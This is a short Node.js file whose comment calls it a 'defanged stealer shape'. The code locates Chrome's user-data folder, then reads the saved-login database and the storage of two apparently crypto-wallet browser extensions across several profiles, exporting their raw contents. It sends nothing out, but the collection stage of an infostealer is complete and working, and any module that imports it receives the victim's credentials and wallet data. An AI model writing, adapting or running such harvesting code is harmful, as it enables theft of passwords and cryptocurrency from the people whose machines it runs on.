// defanged stealer shape: collects paths and reads them, sends nothing
const fs = require('fs');
const os = require('os');
const path = require('path');

const base = path.join(os.homedir(), 'AppData', 'Local', 'Google', 'Chrome', 'User Data');
const profiles = ['Default', 'Profile 1', 'Profile 2'];
const wallets = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];

const found = [];
for (const p of profiles) {
  for (const id of wallets) {
    const dir = path.join(base, p, 'Local Extension Settings', id);
    if (fs.existsSync(dir)) {
      for (const f of fs.readdirSync(dir)) found.push(fs.readFileSync(path.join(dir, f)));
    }
  }
  const login = path.join(base, p, 'Login Data');
  if (fs.existsSync(login)) found.push(fs.readFileSync(login));
}
module.exports = found;
